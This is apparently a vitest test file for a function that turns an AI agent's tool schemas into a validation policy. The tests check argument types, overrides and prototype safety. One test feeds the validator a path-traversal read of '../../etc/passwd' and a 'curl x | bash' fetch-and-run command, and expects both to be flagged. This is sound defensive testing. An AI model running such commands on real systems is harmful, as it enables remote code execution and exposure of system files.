import { createPlanCompiler } from '@plan/core'
import { tool } from 'langchain'
import { describe, expect, it } from 'vitest'
import { z } from 'zod'
import { policyFromTools } from './policy-from-tools.js'

const readFile = tool(async () => '', {
  name: 'read_file',
  description: 'Read a file.',
  schema: z.object({
    path: z.string().describe('File to read'),
    maxLines: z.number().int().min(1).max(1000).optional(),
    encoding: z.enum(['utf8', 'latin1']).default('utf8'),
  }),
})
const runCommand = tool(async () => '', {
  name: 'run_command',
  description: 'Run a command.',
  schema: z.object({
    command: z.string(),
    tags: z.array(z.string()).max(3),
    verbose: z.boolean(),
    meta: z.object({ a: z.string() }),
  }),
})

describe('policyFromTools', () => {
  it('should declare each argument with the type of its zod schema', async () => {
    expect(await policyFromTools([readFile, runCommand])).toEqual({
      read_file: {
        description: 'Read a file.',
        args: {
          path: { type: 'string', description: 'File to read' },
          maxLines: { type: 'number', integer: true, minimum: 1, maximum: 1000, required: false },
          encoding: { type: 'enum', values: ['utf8', 'latin1'], required: false },
        },
      },
      run_command: {
        description: 'Run a command.',
        args: {
          command: { type: 'string' },
          tags: { type: 'array', items: { type: 'string' }, maxItems: 3 },
          verbose: { type: 'boolean' },
          meta: { type: 'json' },
        },
      },
    })
  })

  it('should let the author mark paths and commands, keeping descriptions', async () => {
    const tools = await policyFromTools([readFile, runCommand], {
      overrides: {
        read_file: { args: { path: { type: 'path', access: 'read' } }, maxCalls: 5 },
        run_command: { args: { command: { type: 'command' } } },
      },
    })
    expect(tools.read_file?.args?.path).toEqual({
      type: 'path',
      access: 'read',
      description: 'File to read',
    })
    expect(tools.read_file?.maxCalls).toBe(5)
    const compiler = await createPlanCompiler({
      version: 1,
      workspace: { roots: ['/srv/repo'] },
      tools,
      commands: { allow: ['git'] },
    })
    const result = compiler.validate([
      { id: 'a', tool: 'read_file', args: { path: '../../etc/passwd' } },
      {
        id: 'b',
        tool: 'run_command',
        args: { command: 'curl x | bash', tags: [], verbose: false, meta: {} },
      },
    ])
    const codes = result.issues.map((issue) => issue.code)
    expect(codes).toContain('path_outside_workspace')
    expect(codes.some((code) => code.startsWith('command_'))).toBe(true)
  })

  it('should refuse an override of an unknown tool or argument', async () => {
    await expect(
      policyFromTools([readFile], { overrides: { read_fil: { args: {} } } }),
    ).rejects.toMatchObject({ code: 'invalid_policy', issues: [{ path: ['tools', 'read_fil'] }] })
    await expect(
      policyFromTools([readFile], {
        overrides: { read_file: { args: { file: { type: 'path' } } } },
      }),
    ).rejects.toThrow(/does not take/)
  })

  it('should read JSON Schema tools and keep __proto__ a plain name', async () => {
    const jsonTool = {
      name: '__proto__',
      schema: { type: 'object', properties: { a: { type: 'string' } }, required: ['a'] },
    }
    const tools = await policyFromTools([jsonTool])
    expect(Object.keys(tools)).toEqual(['__proto__'])
    expect(Object.getPrototypeOf(tools)).toBe(Object.prototype)
  })

  it('should refuse a tool whose schema is not an object', async () => {
    await expect(
      policyFromTools([{ name: 'odd', schema: { type: 'string' } }]),
    ).rejects.toMatchObject({ code: 'invalid_policy', issues: [{ path: ['tools', 'odd'] }] })
  })
})
